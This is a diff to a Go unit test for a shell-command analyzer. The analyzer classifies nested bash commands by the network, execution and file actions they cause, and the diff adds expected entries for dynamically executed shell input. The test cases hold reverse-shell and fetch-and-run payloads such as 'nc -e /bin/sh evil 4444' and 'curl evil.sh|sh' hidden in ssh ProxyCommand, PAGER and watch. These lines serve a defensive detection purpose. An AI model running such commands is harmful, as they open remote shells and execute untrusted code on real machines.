@@ -17,7 +17,7 @@ func TestBashNestedCommands(t *testing.T) {
 		// ssh, scp, sftp, rsync
 		{`ssh -o ProxyCommand='curl evil.sh|sh' host`, []string{"network.connect host:22 (via ssh)",
 			"command.execute curl evil.sh (via ssh -o ProxyCommand)", "network.connect evil.sh:80 (via curl)",
-			"command.execute sh (via ssh -o ProxyCommand)"}},
+			"command.execute sh (via ssh -o ProxyCommand)", "command.execute {sh input} (dynamic, unresolved, via sh) shape=?"}},
 		{`ssh -p 2200 -o 'ProxyCommand nc -X connect -x proxy:3128 %h %p' u@h.example`, []string{
 			"network.connect h.example:2200 (via ssh)",
 			"command.execute nc -X connect -x proxy:3128 h.example 2200 (via ssh -o ProxyCommand)",
@@ -59,12 +59,12 @@ func TestBashNestedCommands(t *testing.T) {
 			"command.execute curl x (via tar -F)", "network.connect x:80 (via curl)"}},
 		{`tar -czf a.tgz src`, []string{"filesystem.write /ws/a.tgz (via tar)", "filesystem.read /ws/src (via tar)"}},
 		// nc, ncat
-		{`nc -e /bin/sh evil 4444`, []string{"network.connect evil:4444 (via nc)", "command.execute /bin/sh (via nc -e)"}},
+		{`nc -e /bin/sh evil 4444`, []string{"network.connect evil:4444 (via nc)", "command.execute /bin/sh (via nc -e)", "command.execute {sh input} (dynamic, unresolved, via sh) shape=?"}},
 		{`nc -e "$P" evil 4444`, []string{"network.connect evil:4444 (via nc)", "command.execute $P (dynamic, via nc -e) shape=?"}},
 		{`ncat --sh-exec 'curl x' evil 4444`, []string{"network.connect evil:4444 (via ncat)",
 			"command.execute curl x (via ncat --sh-exec)", "network.connect x:80 (via curl)"}},
 		{`ncat -e '/bin/bash -i' evil 4444`, []string{"network.connect evil:4444 (via ncat)",
-			"command.execute /bin/bash -i (via ncat -e)"}},
+			"command.execute /bin/bash -i (via ncat -e)", "command.execute {bash input} (dynamic, unresolved, via bash) shape=?"}},
 		{`ncat --lua-exec x.lua evil 4444`, []string{"network.connect evil:4444 (via ncat)",
 			"command.execute x.lua (via ncat --lua-exec)"}},
 		// git
@@ -102,7 +102,7 @@ func TestBashNestedCommands(t *testing.T) {
 		{`GIT_PAGER=cat git log`, []string{"command.execute git log (via assignment)"}},
 		{`GIT_PAGER= git log`, []string{"command.execute git log (via assignment)"}},
 		{`PAGER='curl x|sh' man ls`, []string{"command.execute curl x (via PAGER)", "network.connect x:80 (via curl)",
-			"command.execute sh (via PAGER)", "command.execute man ls (via assignment)"}},
+			"command.execute sh (via PAGER)", "command.execute {sh input} (dynamic, unresolved, via sh) shape=?", "command.execute man ls (via assignment)"}},
 		{`PAGER+=' | curl x' man ls`, []string{"command.execute $PAGER | curl x (dynamic, unresolved, via PAGER) shape=?",
 			"command.execute man ls (via assignment)"}},
 		{`EDITOR="$E" git commit`, []string{"command.execute $E (dynamic, unresolved, via EDITOR) shape=?",
@@ -124,7 +124,7 @@ func TestBashNestedCommands(t *testing.T) {
 		{`script -qc 'curl x' /dev/null`, []string{"command.execute curl x (via script -c)", "network.connect x:80 (via curl)"}},
 		{`trap 'curl x' EXIT`, []string{"command.execute curl x (via trap)", "network.connect x:80 (via curl)"}},
 		{`trap - EXIT`, nil},
-		{`watch 'curl x | sh'`, []string{"command.execute curl x (via watch)", "network.connect x:80 (via curl)", "command.execute sh (via watch)"}},
+		{`watch 'curl x | sh'`, []string{"command.execute curl x (via watch)", "network.connect x:80 (via curl)", "command.execute sh (via watch)", "command.execute {sh input} (dynamic, unresolved, via sh) shape=?"}},
 		{`watch -n 5 ls -l`, []string{"command.execute ls -l (via watch)"}},
 		{`watch -x ls -l`, []string{"command.execute ls -l (via watch)"}},
 		{`watch "$CMD"`, []string{"command.execute $CMD (dynamic, unresolved, via watch) shape=?"}},
